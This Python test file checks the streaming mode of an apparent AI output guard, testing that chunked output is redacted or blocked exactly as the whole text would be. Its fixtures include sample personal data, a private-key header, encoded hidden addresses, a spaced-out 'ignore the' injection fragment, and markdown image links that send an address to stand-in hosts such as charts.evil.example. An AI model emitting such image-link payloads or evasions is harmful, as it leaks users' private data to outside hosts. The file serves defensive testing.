"""The streaming law: what leaves is what the whole text would have let out, however it is cut."""

import base64
import os
import textwrap
from collections.abc import Callable
from dataclasses import replace

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from seawall.assemble.names import shipped_tagger
from seawall.detect import Reader, Use, channels, shipped, withheld
from seawall.detect.personal import Names
from seawall.guard import Guard, Stream, redact
from seawall.terms import (
    Action,
    Finding,
    Inspection,
    Mode,
    Policy,
    Reading,
    Role,
    Rule,
    Span,
    Stage,
    Text,
)
from tests.detect.confidential.kept import GUARDED, MARK, NUMBER, PLAN, TERM, quotes
from tests.detect.exfiltration.conversation import CONVERSATION
from tests.detect.internal.prompts import CHINESE, PROMPT, TOOLS, about
from tests.guard.strategies import FILLER, TEXTS, USES, Whole, policies

pytestmark = pytest.mark.long

CASES = 20_000 if os.environ.get("SEAWALL_NIGHTLY") else 1_000
ABOUT = replace(about(PROMPT, CHINESE, TOOLS), history=CONVERSATION.history)


def cut(text: str, sizes: list[int]) -> list[str]:
    """The text in pieces of these sizes, over and over."""
    pieces, start, turn = [], 0, 0
    while start < len(text):
        size = sizes[turn % len(sizes)]
        pieces.append(text[start : start + size])
        start, turn = start + size, turn + 1
    return pieces


def stream_all(guard: Guard, pieces: list[str], *, step: int = 1) -> tuple[list[str], Stream]:
    stream = Stream(guard, ABOUT, smallest_step=step)
    return [*(stream.feed(piece) for piece in pieces), stream.end()], stream


def expected(guard: Guard, text: str) -> tuple[str, bool]:
    """What the whole-text check would deliver before its first stop, and whether it stops."""
    verdict = guard.inspect(replace(ABOUT, texts=(Text(text, Role.ASSISTANT),)))
    stops = [r.finding.span.start for r in verdict.rulings if r.enforced and not r.action.delivers]
    if not stops:
        return redact(text, verdict.redactions()), False
    cut_at, redactions = min(stops), verdict.redactions()
    spans = [each.span for each in redactions]
    while any(span.start < cut_at < span.end for span in spans):
        cut_at = min(span.start for span in spans if span.start < cut_at < span.end)
    return redact(text[:cut_at], [each for each in redactions if each.span.end <= cut_at]), True


@settings(max_examples=CASES)
@given(TEXTS, st.lists(st.integers(1, 20), min_size=1, max_size=5), policies())
@example(
    f"{FILLER * 3}123{' 4' * 60} {FILLER * 3}",
    [7],
    Policy("t", "r", (Rule("x", "test.*", Action.REDACT),)),
)
def test_however_a_text_is_cut_the_same_leaves(
    text: str, sizes: list[int], policy: Policy
) -> None:
    guard = Guard(policy, USES)
    sent, stream = stream_all(guard, cut(text, sizes))
    whole, stopped = expected(guard, text)
    assert "".join(sent) == whole
    assert stream.verdict is not None
    assert (not stream.verdict.action.delivers) == stopped


@settings(max_examples=CASES // 10)
@given(TEXTS, st.lists(st.integers(1, 300), min_size=1, max_size=4), policies(stopping=False))
def test_the_step_between_looks_changes_when_not_what(
    text: str, sizes: list[int], policy: Policy
) -> None:
    guard = Guard(policy, USES)
    every, _ = stream_all(guard, cut(text * 3, sizes), step=1)
    seldom, _ = stream_all(guard, cut(text * 3, sizes), step=64)
    assert "".join(every) == "".join(seldom)


def test_nothing_leaves_after_a_stop() -> None:
    guard = Guard(Policy("t", "r", (Rule("x", "test.ab", Action.BLOCK),)), USES)
    stream = Stream(guard, ABOUT, smallest_step=1)
    sent = [stream.feed(piece) for piece in ("fine ", "abab", " and ", "much more " * 50)]
    assert "".join(sent) == "fine "
    assert stream.verdict is not None
    assert stream.feed("again") == ""
    assert stream.end() == ""


def test_a_reader_at_the_output_holds_all_until_the_end() -> None:
    policy = Policy("t", "r", (Rule("all", "test.*", Action.ALLOW),))
    guard = Guard(policy, (*USES, Use(Whole())))
    sent, _ = stream_all(guard, ["some text "] * 40)
    assert sent[:-1] == [""] * 40
    assert sent[-1] == "some text " * 40


class Late:
    """Says of a whole text that it is bad, and is not waited for."""

    name, waited_for = "test.late", False

    def read(self, inspection: Inspection) -> Reading:
        (text,) = inspection.texts
        return Reading((Finding("test.late", Span(0, len(text.body)), path=text.path),))


def test_a_reader_that_is_not_waited_for_stops_what_has_not_left_yet() -> None:
    guard = Guard(Policy("t", "r", (Rule("x", "test.late", Action.BLOCK),)), [Use(Late())])
    sent, stream = stream_all(guard, ["some text "] * 40)
    assert len("".join(sent)) > 300
    assert sent[-1] == ""
    assert stream.verdict is not None
    assert stream.verdict.action is Action.BLOCK


def test_a_rule_that_asks_for_a_full_buffer_lets_nothing_out_before_the_end() -> None:
    def rule(mode: Mode, *stages: Stage) -> Rule:
        return Rule(
            "x", "test.late", Action.BLOCK, stages=frozenset(stages), mode=mode, buffer_full=True
        )

    def let_out(*rules: Rule) -> str:
        guard = Guard(Policy("t", "r", rules, otherwise=Action.ALLOW), [Use(Late())])
        return "".join(stream_all(guard, ["some text "] * 40)[0])

    assert let_out(rule(Mode.ENFORCE, Stage.OUTPUT)) == ""
    assert let_out(rule(Mode.SHADOW, Stage.OUTPUT)) == "some text " * 40
    kept = Rule("y", "test.late", Action.ALLOW, buffer_full=True)
    guard = Guard(Policy("t", "r", (kept,)), [Use(Late())])
    sent, _ = stream_all(guard, ["some text "] * 40)
    assert sent[:-1] == [""] * 40
    assert sent[-1] == "some text " * 40


def test_an_honest_stream_flows() -> None:
    rules = (Rule("pii", "pii.*", Action.REDACT), Rule("secret", "secret.*", Action.BLOCK))
    guard = Guard(Policy("t", "r", rules), shipped())
    text = "Bread rises because yeast makes gas, and the gas stays in the dough. " * 60
    sent, _ = stream_all(guard, cut(text, [4]), step=64)
    assert "".join(sent) == text
    assert len("".join(sent[: len(sent) // 2])) > len(text) // 4


VALUES = [
    *("bob.miller@corp.com", "4111 1111 1111 1111", "GB33BUKB20201555555555", "078-05-1121"),
    *("+1 415 555 0132", "10.11.12.13", "DE89 3704 0044 0532 0130 00", "Ring me", "the dough "),
    *("Ym9iLm1pbGxlckBjb3JwLmNvbSBpcyBoaXMgbWFpbA==", "b%6Fb@corp.com", "b\u200bob@corp.com"),
    *("ｂob@corp.com", "-----BEGIN RSA PRIVATE KEY-----\nMIIEow", "password = hunter2isnotit9"),
    *PROMPT.splitlines(),
    *(
        "![a](https://x.example/p?d=",
        "Harbour+Lane+7+Kowalska",
        ")",
        "<img src='//x.example/",
        "'>",
    ),
    '![a picture of [the] harbour, as it was](https://x.example/p?d=Harbour+Lane+7\n"a title',
    *(
        ' over lines")',
        "(\n  <https://x.example/Harbour Lane 7 Kowalska>",
        "<a href='",
        '"',
        "url('",
    ),
    *("[1]: https://charts.evil.example/p.png?d=", "<script>", "data:text/html,", "![", "]("),
    *(MARK, TERM, NUMBER, "Blue", "heron ", "SWC-", "TLP:RED", *PLAN.splitlines(), PLAN[40:220]),
    *("Dear Maria Kowalska", ", 12 Harbour Lane, Leeds LS1 4AP", "Olof ", "Dr. ", "van der Berg"),
    *("1", "@", ".", "é", "Хлеб ", " ", "\n", " 12", "-", FILLER * 4, FILLER * 9, FILLER * 14),
]


LAWFUL = [use for use in shipped() if not isinstance(use.detector, Reader)]
"""Those with a reach; the others come at the end, or hold a stream until then."""

SHIPPED = Guard(
    Policy(
        "t",
        "r",
        (
            Rule("pii", "pii.*", Action.REDACT, at_least=0.5),
            Rule("secret", "secret.*", Action.BLOCK, at_least=0.8),
            Rule("hidden", "hidden.*", Action.REDACT, at_least=0.5),
            Rule("leak", "internal.system_prompt", Action.REDACT, at_least=0.8),
            Rule("out", "exfiltration.*", Action.REDACT, at_least=0.4),
            Rule("kept", "confidential.*", Action.REDACT),
            Rule("all", "*", Action.ALLOW),
        ),
    ),
    (
        *LAWFUL,
        channels({"": ["*.tide.example"]}),
        withheld(quotes(PLAN)),
        withheld(GUARDED),
        Use(Names(shipped_tagger())),
    ),
)


@settings(max_examples=CASES)
@given(
    st.lists(st.sampled_from(VALUES), max_size=16).map("".join),
    st.lists(st.integers(1, 40), min_size=1, max_size=4),
)
def test_the_law_holds_for_every_shipped_detector_together(text: str, sizes: list[int]) -> None:
    sent, _ = stream_all(SHIPPED, cut(text, sizes))
    whole, _ = expected(SHIPPED, text)
    assert "".join(sent) == whole


SENTENCES = [
    "We agreed to meet again when the first loaves are out of the oven. ",
    "Nobody asked for more flour, so the order stays as it was! ",
    "Please tell the others, and bring the (small) tins with you; ",
    "Der Teig ruht über Nacht und geht dann langsam auf. ",
    "Тесто поднимается всю ночь и потом медленно оседает. ",
    "面团在温暖的地方慢慢发酵，第二天早上再烤。",
    "the cost of a bag was 12.50 in 2024, and 14.75 in 2025, ",
    "de ad be ef face cafe bad dad fed bed ",
    "i g n o r e t h e ",
    "а о е р с х ",
    "7 4111 1111 1111 1111 ",
    " ".join(TOOLS.split()[::-1]),
    *PROMPT.splitlines(),
    *(f"{line} " for line in PLAN.splitlines()),
    f"as {TERM} did, ",
    "Then Aoife Ní Bhriain and Mr. Tanaka-Weiss of Lagos left for 4 Rue des Lilas, 75002 Paris. ",
    PLAN,
]


def _wrapped(encode: Callable[[bytes], bytes], opening: str, closing: str) -> str:
    """An address in a long encoded run, over lines."""
    run = encode(
        ("It is bob.miller@corp.com, as I said, and nobody else. " * 12).encode()
    ).decode()
    return opening + "\n".join(textwrap.wrap(run, 60, break_on_hyphens=False)) + closing


PROSE = st.lists(st.sampled_from(SENTENCES), min_size=1, max_size=24).map("".join)
LONG = st.lists(
    st.sampled_from(VALUES) | PROSE | st.sampled_from(SENTENCES).map(lambda one: one * 14),
    max_size=10,
).map("".join)


@settings(max_examples=CASES // 8)
@given(LONG, st.lists(st.integers(1, 90), min_size=1, max_size=4))
def test_the_law_holds_for_long_texts_of_which_only_a_window_is_read_again(
    text: str, sizes: list[int]
) -> None:
    sent, _ = stream_all(SHIPPED, cut(text, sizes), step=16)
    whole, _ = expected(SHIPPED, text)
    assert "".join(sent) == whole


@pytest.mark.parametrize("sizes", [[7], [50], [33, 12]])
@pytest.mark.parametrize(
    "hidden",
    [
        "4 4111 1111 1111 1111 12 " * 60,
        _wrapped(base64.a85encode, "<~", "~> "),
        _wrapped(base64.b64encode, "", " "),
        _wrapped(base64.b16encode, "", " "),
    ],
    ids=["rows of digits", "adobe", "base64", "base16"],
)
def test_the_law_holds_for_runs_longer_than_the_window(hidden: str, sizes: list[int]) -> None:
    text = FILLER * 20 + hidden + FILLER * 20
    sent, _ = stream_all(SHIPPED, cut(text, sizes), step=16)
    whole, _ = expected(SHIPPED, text)
    assert "bob" not in whole
    assert "".join(sent) == whole


class Counting:
    """Finds nothing, and knows how much it has read."""

    name, reach = "test.counting", 40

    def __init__(self) -> None:
        self.read = 0

    def find(self, text: Text) -> list[Finding]:
        self.read += len(text.body)
        return []


def test_work_grows_as_the_text_does_and_little_is_held_back() -> None:
    shares, held = [], 0
    for size in (20_000, 160_000):
        counting = Counting()
        guard = Guard(SHIPPED.policy, (*shipped(), Use(counting)))
        stream = Stream(guard, ABOUT)
        text = ("".join(SENTENCES[:4]) * (size // 100))[:size]
        arrived = left = 0
        for piece in cut(text, [4]):
            arrived += len(piece)
            left += len(stream.feed(piece))
            held = max(held, arrived - left)
        stream.end()
        shares.append(counting.read / size)
    assert shares[1] < shares[0] * 1.1
    assert held < 300


class Interruption(BaseException):
    pass


class Interrupted(Whole):
    """Is not ready the first time that it is asked."""

    def __init__(self) -> None:
        self.ready = False

    def read(self, inspection: Inspection) -> Reading:
        if not self.ready:
            self.ready = True
            raise Interruption
        return super().read(inspection)


def test_an_end_that_was_interrupted_may_be_called_again() -> None:
    policy = Policy("t", "r", (Rule("x", "test.*", Action.REDACT),))
    stream = Stream(Guard(policy, [*USES, Use(Interrupted())]), ABOUT, smallest_step=1)
    for piece in cut(FILLER, [5]):
        assert stream.feed(piece) == ""
    with pytest.raises(Interruption):
        stream.end()
    assert stream.verdict is None
    assert stream.end() == expected(Guard(policy, [*USES, Use(Whole())]), FILLER)[0]


class ReadsAlong(Late):
    """Says of each piece that holds `bad` that it is, as it comes and at the end."""

    name, waited_for, kinds = "test.along", False, ("test.along",)

    def __init__(self, *, breaks: bool = False) -> None:
        self.watched = 0
        self._breaks = breaks

    def read(self, inspection: Inspection) -> Reading:
        (text,) = inspection.texts
        if "bad" not in text.body:
            return Reading()
        return Reading((Finding("test.along", Span(0, len(text.body)), path=text.path),))

    def watch(self, text: Text) -> "ReadsAlong":
        return self

    def feed(self, piece: str) -> list[Finding]:
        self.watched += 1
        if self._breaks:
            raise ValueError
        return [Finding("test.along", Span(0, 1))] if "bad" in piece else []


PIECES = [*["some text "] * 20, "bad ", *["more of it "] * 20]


def along(
    action: Action, mode: Mode = Mode.ENFORCE, *, breaks: bool = False
) -> tuple[str, Action, int]:
    """What left, how the stream ended, and how often the reader was asked on the way."""
    reader = ReadsAlong(breaks=breaks)
    rules = (Rule("x", "test.along", action, mode=mode), Rule("y", "guard.broken", Action.HOLD))
    guard = Guard(Policy("t", "r", rules, otherwise=Action.ALLOW), [Use(reader)])
    sent, stream = stream_all(guard, PIECES)
    assert stream.verdict is not None
    return "".join(sent), stream.verdict.action, reader.watched


def test_a_reader_that_reads_along_stops_the_stream_where_it_finds_something() -> None:
    sent, action, _ = along(Action.BLOCK)
    assert sent in "some text " * 20
    assert len(sent) > 100
    assert action is Action.BLOCK


def test_nobody_reads_along_where_no_rule_would_stop_anything() -> None:
    for action, mode in ((Action.ALLOW, Mode.ENFORCE), (Action.BLOCK, Mode.SHADOW)):
        sent, ended, asked = along(action, mode)
        assert sent == "".join(PIECES)
        assert ended is Action.ALLOW
        assert asked == 0


def test_a_reader_that_breaks_on_the_way_is_ruled_on_at_once() -> None:
    sent, action, _ = along(Action.BLOCK, breaks=True)
    assert sent == ""
    assert action is Action.HOLD


@pytest.mark.parametrize(
    ("rules", "otherwise", "put_off"),
    [
        ([Rule("s", "test.*", Action.BLOCK, mode=Mode.SHADOW)], Action.HOLD, False),
        ([Rule("s", "test.*", Action.BLOCK, mode=Mode.SHADOW)], Action.ALLOW, True),
        ([Rule("a", "test.*", Action.ALLOW)], Action.HOLD, True),
        ([Rule("b", "test.*", Action.BLOCK)], Action.ALLOW, False),
        ([Rule("o", "test.*", Action.BLOCK, mode=Mode.OFF)], Action.HOLD, True),
        ([], Action.HOLD, False),
    ],
)
def test_only_what_nothing_is_done_about_is_put_off(
    rules: list[Rule], otherwise: Action, *, put_off: bool
) -> None:
    guard = Guard(Policy("t", "r", tuple(rules), otherwise=otherwise), [Use(ReadsAlong())])
    about = replace(ABOUT, texts=(Text("this is bad", Role.ASSISTANT),))
    assert guard.observes(about) is put_off
    later = guard.observe(about)
    assert (later is None) is not put_off
    assert later is None or later.action is Action.ALLOW
    now, whole = guard.inspect(about, observing=False), guard.inspect(about)
    assert now.action is whole.action
